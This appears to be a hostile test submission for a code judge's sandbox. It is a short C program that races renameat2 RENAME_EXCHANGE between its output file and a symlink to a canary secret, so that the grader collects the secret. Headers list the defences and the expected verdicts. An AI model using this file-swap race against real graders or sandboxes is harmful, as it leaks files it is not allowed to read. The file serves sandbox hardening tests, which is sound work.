// id: B05-run
// tries: to swap its output file for a link without an end, so that whoever collects it takes the link's target
// stops: [pipe-output, kill-before-verdict]
// limits: {cpu_ms: 1000, wall_ms: 3000, pids: 16}
// expect: [WA, TLE]
// repeat: 5
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    symlink("@CANARY_DIR@/secret644", "s");
    close(creat("output.txt", 0644));
    for (int i = 0; i < 3; i++)
        if (!fork())
            for (;;) syscall(SYS_renameat2, AT_FDCWD, "output.txt", AT_FDCWD, "s", 2 /* RENAME_EXCHANGE */);
    usleep(200000);
    puts("in output.txt");
}
